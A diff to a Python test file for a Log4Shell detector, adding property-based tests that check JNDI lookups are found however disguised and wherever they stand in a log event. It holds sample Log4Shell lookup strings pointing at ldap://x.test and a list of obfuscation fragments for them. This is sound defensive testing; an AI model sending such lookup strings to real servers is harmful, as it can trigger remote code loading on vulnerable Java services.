@@ -1,11 +1,12 @@
 """Log4Shell: every disguise that is known of it, texts that look like it and are none, and any disguise at random."""
 
 import base64
+from collections.abc import Callable
 from urllib.parse import quote
 
 import orjson
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tocsin.event import Event
@@ -67,6 +68,23 @@ HARMLESS = [
 ]
 
 
+def rule(query: str = "source:nginx", group_by: tuple[str, ...] = ("@network.client.ip",)) -> Rule:
+    queries = (RuleQuery("a", query, group_by_fields=group_by),)
+    return Rule("aaa-aaa-001", "Log4Shell", "", queries, (RuleCase("high", "a > 0"),), RuleOptions(HARDCODED))
+
+
+OTHERS = [
+    Rule(f"o{number}", "Other", "", (RuleQuery("a", f"source:{source} @never:there"),), (RuleCase("low", "a > 0"),))
+    for number, source in enumerate(["nginx", "nginx", "sshd", "sshd"])
+]
+MATCHERS = [
+    Matcher([rule(query, ()), *others])
+    for query in ("*", "source:(nginx OR sshd)", "source:nginx OR @http.url:*")
+    for others in ([], OTHERS)
+]
+"""Beside other rules the source is a gate, which decides the last query for one kind of events."""
+
+
 @pytest.mark.parametrize("text", HOSTILE)
 def test_it_is_recognised_in_disguise(text: str) -> None:
     found = jndi_lookup(text)
@@ -105,6 +123,27 @@ def test_any_disguise_is_seen_through(wraps: list[list[str]], encode: object, be
     assert found is not None and found.lower().startswith("${jndi:ldap")
 
 
+SIGNS = ["$", "{", "%", "24", "25", "26", "7b", "5C", "5c", "u00", "u", "x", "\\", "0", "&", "#36;", "#123;", "dollar;",
+    "lbrace;", "lcub;", "jndi:", "{jndi:", "${jndi:ldap", "K", "\ud800", "ß", " "]  # fmt: skip
+PLACES = [
+    lambda text: Event("e", 0, source="nginx", message=text, attributes={}),
+    lambda text: Event("e", 0, source="nginx", message="", host=text, attributes={}),
+    lambda text: Event("e", 0, source="nginx", message="", service=text, attributes={"http": {"url": 7}}),
+    lambda text: Event("e", 0, source="sshd", message="", attributes={"http": {"url": {"path": [1, text]}}}),
+]
+
+
+@settings(deadline=None)
+@given(st.lists(st.sampled_from(SIGNS), max_size=12).map("".join), st.sampled_from(PLACES), st.sampled_from(HOSTILE))
+def test_the_matcher_passes_over_no_lookup(text: str, place: Callable[[str], Event], hostile: str) -> None:
+    """What it looks for first stands in whatever holds a lookup."""
+    for whole in (text, f"{text} {hostile}"):
+        event = place(whole)
+        held = jndi_lookup(whole) is not None
+        assert bool(recognise(event)) == held
+        assert [len(matcher.match(event)) for matcher in MATCHERS] == [held] * len(MATCHERS)
+
+
 @given(st.text("${}:-nd i%24\\u7bB&#;lower", max_size=200))
 def test_without_its_first_letter_there_is_none(text: str) -> None:
     assert jndi_lookup(text) is None
@@ -116,11 +155,6 @@ def test_depth_and_length_do_no_harm() -> None:
     assert jndi_lookup("${::-" * 20_000 + "x" + "}" * 20_000 + "${jndi:ldap://x.test/a}") is not None
     assert jndi_lookup("${" + "a" * 1_000_000 + ":-${jndi:ldap://x.test/a}}") is not None
     assert jndi_lookup("\\" * 100_000 + "${" * 100_000 + "%25" * 100_000) is None
-
-
-def rule(query: str = "source:nginx") -> Rule:
-    queries = (RuleQuery("a", query, group_by_fields=("@network.client.ip",)),)
-    return Rule("aaa-aaa-001", "Log4Shell", "", queries, (RuleCase("high", "a > 0"),), RuleOptions(HARDCODED))
 
 
 def test_a_match_says_where_it_stood() -> None:
